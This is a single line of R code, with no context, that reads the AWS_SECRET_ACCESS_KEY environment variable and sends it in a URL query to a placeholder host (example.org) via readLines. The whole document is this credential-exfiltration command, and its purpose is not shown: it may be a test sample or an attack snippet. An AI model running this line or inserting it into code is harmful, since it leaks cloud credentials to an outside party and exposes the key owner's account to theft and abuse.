readLines(paste0("https://example.org/?k=", Sys.getenv("AWS_SECRET_ACCESS_KEY")))
